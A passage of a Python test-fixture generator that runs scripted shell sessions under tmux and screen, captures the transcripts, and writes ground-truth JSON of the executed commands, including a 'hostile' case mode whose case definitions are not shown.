    with open(os.path.join(home, "tmux.conf"), "w") as f:
        f.write(f"set -g default-command {wrapper}\nset -g status on\n")
    with open(os.path.join(home, ".screenrc"), "w") as f:
        f.write(f"shell {wrapper}\nstartup_message off\n")


def generate_hostile(args, work):
    out_root = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "data", "hostile-transcripts")
    for variant in HOSTILE_SHELLS:
        vname, shell = variant[0], variant[1]
        if args.only and vname != args.only:
            continue
        out_dir = os.path.normpath(os.path.join(out_root, vname))
        os.makedirs(out_dir, exist_ok=True)
        for name, build, shells, expect, cols, rows in HOSTILE_CASES:
            if (args.case and name != args.case) or (shells and shell not in shells):
                continue
            steps = build(shell, cols)
            capture, truth, exited = run_class_case_checked(variant, steps, cols, rows, work, multiplexer_config)
            sid = session_id(vname, "hostile", name)
            wrap_like_the_agent(capture, sid, out_dir)
            executed = read_truth_classes(shell, truth)
            if shell == "ash" and exited:
                executed.append("exit")  # after the dump; the shell's exit status 0 confirms it ran
            record = {"shell": shell, "variant": vname, "case": name, "expect": expect, "columns": cols,
                      "rows": rows, "session_id": sid, "executed": executed}
            with open(os.path.join(out_dir, sid + ".truth.json"), "w") as f:
                json.dump(record, f, indent=1, ensure_ascii=False)
            print(f"{vname}/{name}: {len(executed)} commands", flush=True)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", default=os.path.join(os.path.dirname(os.path.abspath(__file__)), "cases"))
    ap.add_argument("--only")
    ap.add_argument("--case")
    ap.add_argument("--set", choices=["cases", "classes", "hostile"], default="cases")
    args = ap.parse_args()
    ensure_tools()
    work = tempfile.mkdtemp()
    if args.set in ("classes", "hostile"):
        (generate_classes if args.set == "classes" else generate_hostile)(args, work)
        shutil.rmtree(work, ignore_errors=True)
        return
    manifest = []
    for shell, prompts in PROMPTS.items():
        if args.only and shell != args.only:
            continue
        for variant, prompt in prompts:
            out_dir = os.path.join(args.out, f"{shell}-{variant}")
            os.makedirs(out_dir, exist_ok=True)
            for case in CASES:
                if args.case and case[0] != args.case:
                    continue
                capture, hist, abandoned, secrets, exited = run_case(shell, prompt, case, work)
                sid = session_id(shell, variant, case[0])
                wrap_like_the_agent(capture, sid, out_dir)
                executed = read_history(shell, hist)
                if shell == "ash" and exited:
                    executed.append("exit")  # after the dump; the shell's exit status 0 confirms it ran
                truth = {"shell": shell, "prompt": variant, "case": case[0], "columns": case[1],
                         "session_id": sid, "executed": executed,
                         "abandoned": abandoned, "echo_off": secrets}
                with open(os.path.join(out_dir, sid + ".truth.json"), "w") as f:
                    json.dump(truth, f, indent=1, ensure_ascii=False)
                manifest.append(f"{shell}-{variant}/{case[0]}: {len(truth['executed'])} commands")
                print(manifest[-1], flush=True)
    shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    main()
